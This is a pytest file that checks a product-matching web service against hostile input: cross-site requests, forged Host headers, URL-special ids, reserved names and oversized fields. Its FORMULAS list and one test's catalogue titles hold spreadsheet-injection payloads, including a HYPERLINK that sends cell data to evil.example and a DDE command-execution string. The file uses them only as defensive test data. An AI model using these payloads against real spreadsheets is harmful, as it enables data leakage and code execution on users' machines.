"""The service as an attacker's page, a careless operator and a hostile catalogue would drive it (issue 27):
cross-site writes and foreign Host headers, formula cells in the CSVs it writes, ids that hold `/`, `%`, `?`,
`#`, spaces and unicode, catalogue names that are the store's own files, bounded error messages, queued jobs and
stored uploads past their bounds, and old zip extractions. Reading package text under load: tests/search/
test_ocr.py and tests/service/test_batching.py; linear-time text cleaning: tests/search/test_hostile_text.py;
memory of rejected rows: tests/ingest/test_bad_input.py."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest
from fastapi.testclient import TestClient

from retrieval.match.batch import as_csv, done_products, spreadsheet_safe
from retrieval.settings import Settings
from service.jobs import Jobs
from tests.conftest import SAMPLE, catalogue_csv, wait_for_job

PHOTOS = SAMPLE.parent / "images"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx"]


def _zip(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


# --- cross-site writes, Host, headers ---


def test_a_write_from_another_sites_page_is_refused_with_or_without_a_key(client: TestClient) -> None:
    feed = catalogue_csv([{"id": "x1", "retailer": "r", "title": "Cross-site product"}])
    for headers in (
        {"Origin": "http://attacker.example"},
        {"Origin": "null"},
        {"Origin": "http://localhost:9999"},  # another port of the same machine is another origin
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        refused = client.post("/catalogues/xsite/ingest", files={"file": ("f.csv", feed)}, headers=headers)
        assert refused.status_code == 403 and "another site" in refused.json()["detail"], (headers, refused.text)
        search = client.post("/search/json", json={"text": "oat milk"}, headers=headers)
        assert search.status_code == 403  # a cross-site POST reads nothing either
    assert client.get("/jobs/" + "0" * 32).status_code == 404  # reads stay open to any page's links
    # the page itself (same origin) and clients that are not browsers write as before
    own = client.post("/search/json", json={"text": "oat milk"}, headers={"Origin": "http://localhost"})
    assert own.status_code == 200
    assert client.post("/search/json", json={"text": "oat milk"}, headers={"Sec-Fetch-Site": "same-origin"}).is_success


def test_a_foreign_host_header_is_refused_and_answers_carry_the_safety_headers(client: TestClient) -> None:
    rebound = client.get("/catalogues", headers={"Host": "attacker.example"})
    assert rebound.status_code == 400 and "ALLOWED_HOSTS" in rebound.json()["detail"]
    for host in ("localhost:8000", "127.0.0.1", "[::1]:8000", "LOCALHOST."):
        assert client.get("/catalogues", headers={"Host": host}).status_code == 200, host
    assert client.get("/healthz", headers={"Host": "10.0.0.7:8000"}).status_code == 200  # probes name the pod
    page = client.get("/")
    assert page.status_code == 200
    policy = page.headers["Content-Security-Policy"]
    assert "default-src 'self'" in policy and "frame-ancestors 'none'" in policy
    assert page.headers["Referrer-Policy"] == "no-referrer" and page.headers["X-Frame-Options"] == "DENY"
    for path in ("/catalogues", "/static/app.js", "/healthz", "/nope"):
        assert client.get(path).headers["X-Content-Type-Options"] == "nosniff", path
    head = client.head("/")
    assert head.status_code == 200 and head.content == b"" and head.headers["content-type"].startswith("text/html")
    assert client.head("/catalogues").status_code == 200


def test_allowed_hosts_and_origins_come_from_the_settings(client: TestClient) -> None:
    from service.app import create_app

    settings = client.app.state.app_state.settings.model_copy(  # type: ignore[attr-defined]
        update={"allowed_hosts": "search.example.com", "cors_origins": "https://shop.example.com"}
    )
    state = client.app.state.app_state  # type: ignore[attr-defined]
    app = create_app(settings, state=state.__class__(settings, state.store, state.engine, state.jobs))
    with TestClient(app, base_url="http://search.example.com") as proxied:
        assert proxied.get("/catalogues").status_code == 200
        assert proxied.get("/catalogues", headers={"Host": "other.example.com"}).status_code == 400
        allowed = proxied.post("/search/json", json={"text": "milk"}, headers={"Origin": "https://shop.example.com"})
        assert allowed.status_code == 200
        assert (
            proxied.post("/search/json", json={"text": "milk"}, headers={"Origin": "https://x.example"}).status_code
            == 403
        )


# --- CSVs the project writes ---


def test_formula_cells_are_neutralised_and_numbers_and_resumes_are_untouched(tmp_path: Path) -> None:
    for formula in FORMULAS:
        assert spreadsheet_safe(formula) == "'" + formula
    for kept in ("-0.5", "+3", "1e5", "Oat milk", "'quoted", ""):
        assert spreadsheet_safe(kept) == kept
    row = dict.fromkeys(("left_retailer", "left_id", "left_title", "rank", "right_retailer", "right_id"), "")
    rows = [{**row, "left_id": f, "left_title": f, "right_title": f, "rank": "1", "score": "-0.25"} for f in FORMULAS]
    written = as_csv(rows, header=True)
    cells = [cell for line in csv.reader(io.StringIO(written)) for cell in line]
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert "-0.25" in cells and not any(cell.startswith("-2+3") for cell in cells)
    out = tmp_path / "matches.csv"
    out.write_text(written, encoding="utf-8")
    assert done_products(out) == set(FORMULAS)  # a resumed `ingest match` knows the products by their real ids


def test_the_match_job_csv_neutralises_catalogue_cells(client: TestClient) -> None:
    titles = ["=cmd|' /C calc'!A0 oat drink", "@SUM(1+1) oat drink"]
    rows = [
        {"id": f"f{i}", "retailer": retailer, "title": title, "image": ""}
        for i, title in enumerate(titles)
        for retailer in ("formula-a", "formula-b")
    ]
    job = wait_for_job(
        client, client.post("/catalogues/formulas/ingest", files={"file": ("f.csv", catalogue_csv(rows))}).json()["id"]
    )
    assert job["status"] == "done", job
    submitted = client.post("/catalogues/formulas/match-jobs", json={"retailer": "formula-a"})
    assert submitted.status_code == 202, submitted.text
    assert wait_for_job(client, submitted.json()["id"])["status"] == "done"
    text = client.get(f"/jobs/{submitted.json()['id']}/rows.csv").text
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'=cmd|' /C calc'!A0 oat drink" in cells and "'@SUM(1+1) oat drink" in cells
    assert not any(cell.startswith(("=", "@")) for cell in cells)


# --- ids that hold what URLs treat specially ---


def test_ids_and_retailers_with_slashes_and_url_characters_work_on_every_route(client: TestClient) -> None:
    photos = sorted(PHOTOS.glob("*.jpg"))
    names = ["Granny Smith #1", "Vine%Tomato?", "Äpple_ß"]
    for retailer, offset in (("shop/a b", 0), ("other%shop?#", 0)):
        files = {f"Fruit/Apple/{name}.jpg": photos[offset + i].read_bytes() for i, name in enumerate(names)}
        files["Dairy/Oat drink.jpg"] = photos[5].read_bytes()  # two top folders: the categories start at the root
        submitted = client.post(
            "/catalogues/slashes/ingest", files={"file": ("photos.zip", _zip(files))}, data={"retailer": retailer}
        )
        assert submitted.status_code == 202, submitted.text
        assert wait_for_job(client, submitted.json()["id"])["status"] == "done"
    for name in names:
        product_id = f"Fruit/Apple/{name}"
        base = f"/catalogues/slashes/products/{quote('shop/a b', safe='')}/{quote(product_id, safe='')}"
        product = client.get(base)
        assert product.status_code == 200, (product_id, product.text)
        assert product.json()["id"] == product_id and product.json()["retailer"] == "shop/a b"
        photo_url = product.json()["image_urls"][0]
        photo = client.get(photo_url)
        assert photo.status_code == 200 and photo.content == photos[names.index(name)].read_bytes(), photo_url
        matches = client.get(base + "/matches")
        assert matches.status_code == 200, matches.text
        found = matches.json()["matches"]
        assert found and found[0]["retailer"] == "other%shop?#" and found[0]["id"] == product_id
    assert client.get("/catalogues/slashes/products/shop%2Fa%20b/Fruit%2FApple%2Fnone").status_code == 404


# --- names, sizes and bounds ---


@pytest.mark.parametrize("name", ["edge.lock", "ENGINE", "engine", "meta.json", "collection", "grocery."])
def test_catalogue_names_that_are_the_stores_own_files_are_refused(client: TestClient, name: str) -> None:
    feed = catalogue_csv([{"id": "n1", "retailer": "r", "title": "Named product"}])
    refused = client.post(f"/catalogues/{name}/ingest", files={"file": ("f.csv", feed)})
    assert refused.status_code == 422, refused.text
    assert "/" not in refused.json()["detail"]  # no server path
    assert name not in client.get("/catalogues").json()["catalogues"]


def test_errors_name_a_long_field_and_never_echo_it(client: TestClient) -> None:
    huge = "x" * 1_000_000
    answer = client.post("/search", data={"catalogue": huge, "text": "milk"})
    assert answer.status_code == 422 and len(answer.content) < 2_000 and "1000000" in answer.text
    answer = client.post("/search/json", json={"text": huge})
    assert answer.status_code == 422 and len(answer.content) < 2_000
    answer = client.get("/catalogues/c/products/r/" + "y" * 5_000)
    assert answer.status_code in (404, 422) and len(answer.content) < 2_000


def test_two_stores_under_one_parent_keep_their_jobs_apart(tmp_path: Path) -> None:
    first, second = (Settings(qdrant_path=tmp_path / "stores" / name) for name in ("a", "b"))
    assert first.jobs_file.parent == first.store_path and first.jobs_file != second.jobs_file
    jobs_a, jobs_b = Jobs(first.jobs_file), Jobs(second.jobs_file)  # both held at once: no JobsBusy
    jobs_a.close(1)
    jobs_b.close(1)
